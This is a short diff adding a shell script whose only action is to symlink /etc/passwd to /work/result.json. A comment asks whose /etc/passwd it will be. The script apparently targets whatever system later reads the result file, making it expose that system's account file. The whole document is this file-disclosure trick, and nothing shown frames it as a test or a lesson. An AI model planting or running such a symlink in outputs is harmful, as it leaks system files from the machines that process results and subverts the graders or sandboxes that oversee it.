@@ -1,0 +1,3 @@
+#!/bin/sh
+# Whose /etc/passwd will it be?
+ln -s /etc/passwd /work/result.json
